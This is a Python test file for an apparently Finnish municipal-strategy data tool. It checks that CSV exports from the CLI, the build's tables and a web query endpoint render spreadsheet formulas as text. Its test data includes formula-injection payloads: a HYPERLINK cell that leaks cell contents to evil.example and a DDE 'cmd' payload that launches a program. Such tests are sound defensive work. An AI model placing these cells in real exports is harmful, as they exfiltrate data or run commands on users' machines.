"""CSV for spreadsheets: imported text that a spreadsheet would run as a formula comes out as text.

The hostile cells come in through ``kemi-graph import`` and are looked for in every CSV meant for
people: ``kemi-graph export``, the build's ``tables/*.csv`` and ``/queries/NAME?format=csv``.
"""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest

from kemi_graph.cli import main
from kemi_graph.config import Settings
from kemi_graph.importers.municipalities import import_table
from kemi_graph.spreadsheet import safe_cell
from kemi_graph.web.app import create_app

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Lue lisää")'
SUM = "@SUM(1+1)"
HEADER = ["Tavoite", "Toimenpiteet", "Vastuu ja aikataulu", "Mittarit, arviointi", "Toteuma 1-12/2023", "SDG"]


@pytest.mark.parametrize(
    "cell,shown",
    [
        (HYPERLINK, "'" + HYPERLINK), (SUM, "'" + SUM), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"), ("\tTAB", "'\tTAB"), ("\rCR", "'\rCR"),
        ("-3", "-3"), ("+1.5", "+1.5"), ("2e-3", "2e-3"), ("0.500", "0.500"), ("Liikunta lisääntyy", "Liikunta lisääntyy"), ("", ""),
    ],
)
def test_formula_text_is_kept_as_text_and_numbers_stay_numbers(cell: str, shown: str) -> None:
    assert safe_cell(cell) == shown


@pytest.fixture(scope="module")
def hostile_build(built_settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """The project's build plus a municipality whose table holds formula cells."""
    folder = tmp_path_factory.mktemp("hostile")
    settings = Settings(dist_dir=folder / "dist")
    shutil.copytree(built_settings.dist_dir, settings.dist_dir)
    table = folder / "hostile.csv"
    with table.open("w", encoding="utf-8", newline="") as out:
        writer = csv.writer(out, delimiter=";")
        writer.writerows([
            ["Strateginen päämäärä: HYVÄ ARKI"], HEADER,
            [HYPERLINK, "Uimahalli avataan", "Liikuntapäällikkö 2023", "Kävijöitä 100 krt/v", SUM, "3"],
        ])
    import_table(settings, table, name="Kaavala", code="997", log=lambda line: None)
    return settings


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]


def _assert_safe(data: bytes, *expected: str) -> None:
    cells = _cells(data)
    assert not [c for c in cells if c.startswith(("=", "@", "+"))], "a cell a spreadsheet would run"
    for text in expected:
        assert "'" + text in cells


def test_kemi_graph_export_writes_formulas_as_text(hostile_build: Settings, tmp_path: Path) -> None:
    for table, expected in (("sdg-links", [HYPERLINK]), ("indicators", [SUM])):
        out = tmp_path / f"{table}.csv"
        assert main(["--dist-dir", str(hostile_build.dist_dir), "export", table, "-o", str(out)]) == 0
        _assert_safe(out.read_bytes(), *expected)
    out = tmp_path / "numeric.csv"
    assert main(["--dist-dir", str(hostile_build.dist_dir), "export", "numeric-results", "-o", str(out)]) == 0
    values = [row["value"] for row in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))]
    assert values and all(not v.startswith("'") for v in values)


def test_the_builds_tables_write_formulas_as_text(hostile_build: Settings) -> None:
    _assert_safe((hostile_build.dist_dir / "tables" / "sdg-links.csv").read_bytes(), HYPERLINK)
    _assert_safe((hostile_build.dist_dir / "tables" / "indicators.csv").read_bytes(), SUM)


def test_a_named_query_as_csv_writes_formulas_as_text(hostile_build: Settings) -> None:
    app = create_app(hostile_build)
    try:
        answer = app.test_client().get("/queries/goals-objectives?format=csv")
    finally:
        app.extensions["kemi_graph"].close()
    assert answer.status_code == 200
    _assert_safe(answer.data, HYPERLINK)
